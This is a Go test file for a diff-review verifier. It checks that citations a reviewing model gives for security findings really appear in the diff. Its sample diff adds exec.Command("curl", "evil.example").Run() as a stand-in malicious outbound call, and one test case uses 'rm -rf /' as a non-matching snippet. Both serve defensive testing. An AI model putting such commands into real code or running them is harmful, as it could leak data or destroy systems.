@@ -0,0 +1,118 @@
+package verifier
+
+import (
+	"context"
+	"testing"
+
+	"github.com/tstromberg/ucd/pkg/ucd/provider"
+)
+
+const sampleDiff = `diff --git a/main.go b/main.go
+@@ -1,2 +1,4 @@
+ package main
++
++func main() {
++	exec.Command("curl", "evil.example").Run()
+ }
+`
+
+func TestParseHunks(t *testing.T) {
+	hunks := ParseHunks(sampleDiff)
+	if len(hunks) != 1 {
+		t.Fatalf("hunks = %+v, want exactly one", hunks)
+	}
+	h := hunks[0]
+	if h.File != "main.go" {
+		t.Errorf("File = %q, want %q", h.File, "main.go")
+	}
+	if h.StartLine != 1 || h.EndLine != 4 {
+		t.Errorf("StartLine/EndLine = %d/%d, want 1/4", h.StartLine, h.EndLine)
+	}
+	if !h.contains(`exec.Command("curl", "evil.example").Run()`) {
+		t.Errorf("Lines = %v, want it to contain the added exec.Command call", h.Lines)
+	}
+}
+
+func TestCitationHolds(t *testing.T) {
+	hunks := ParseHunks(sampleDiff)
+
+	tests := []struct {
+		name string
+		c    DiffCitation
+		want bool
+	}{
+		{
+			name: "valid citation",
+			c:    DiffCitation{File: "main.go", StartLine: 3, EndLine: 4, Snippet: `exec.Command("curl", "evil.example").Run()`},
+			want: true,
+		},
+		{
+			name: "wrong file",
+			c:    DiffCitation{File: "other.go", StartLine: 3, EndLine: 4, Snippet: `exec.Command("curl", "evil.example").Run()`},
+			want: false,
+		},
+		{
+			name: "out of range",
+			c:    DiffCitation{File: "main.go", StartLine: 100, EndLine: 104, Snippet: `exec.Command("curl", "evil.example").Run()`},
+			want: false,
+		},
+		{
+			name: "snippet not actually present",
+			c:    DiffCitation{File: "main.go", StartLine: 3, EndLine: 4, Snippet: "rm -rf /"},
+			want: false,
+		},
+		{
+			name: "empty snippet",
+			c:    DiffCitation{File: "main.go", StartLine: 3, EndLine: 4, Snippet: ""},
+			want: false,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := citationHolds(hunks, tt.c); got != tt.want {
+				t.Errorf("citationHolds(%+v) = %v, want %v", tt.c, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestVerifyKeepsOnlyHoldingCitations(t *testing.T) {
+	p := provider.NewRecordedProvider(`{"citations": [
+		{"index": 0, "file": "main.go", "start_line": 3, "end_line": 4, "snippet": "exec.Command(\"curl\", \"evil.example\").Run()"},
+		{"index": 1, "file": "main.go", "start_line": 3, "end_line": 4, "snippet": "this text never appears in the diff"}
+	]}`)
+
+	findings := []Finding{
+		{Index: 0, Description: "adds a network call to an external host"},
+		{Index: 1, Description: "a finding the model can't actually back up"},
+	}
+
+	got, err := Verify(context.Background(), p, "test-model", sampleDiff, findings)
+	if err != nil {
+		t.Fatalf("Verify: %v", err)
+	}
+	if _, ok := got[1]; ok {
+		t.Errorf("got[1] = %+v, want finding 1 dropped (its citation doesn't hold)", got[1])
+	}
+	if len(got[0]) != 1 {
+		t.Fatalf("got[0] = %+v, want exactly one surviving citation", got[0])
+	}
+	if got[0][0].File != "main.go" {
+		t.Errorf("got[0][0].File = %q, want %q", got[0][0].File, "main.go")
+	}
+}
+
+func TestVerifyNoFindings(t *testing.T) {
+	p := provider.NewRecordedProvider()
+	got, err := Verify(context.Background(), p, "test-model", sampleDiff, nil)
+	if err != nil {
+		t.Fatalf("Verify: %v", err)
+	}
+	if got != nil {
+		t.Errorf("got = %+v, want nil when there are no findings to verify", got)
+	}
+	if len(p.Prompts) != 0 {
+		t.Errorf("Prompts = %v, want Verify to skip calling the provider entirely", p.Prompts)
+	}
+}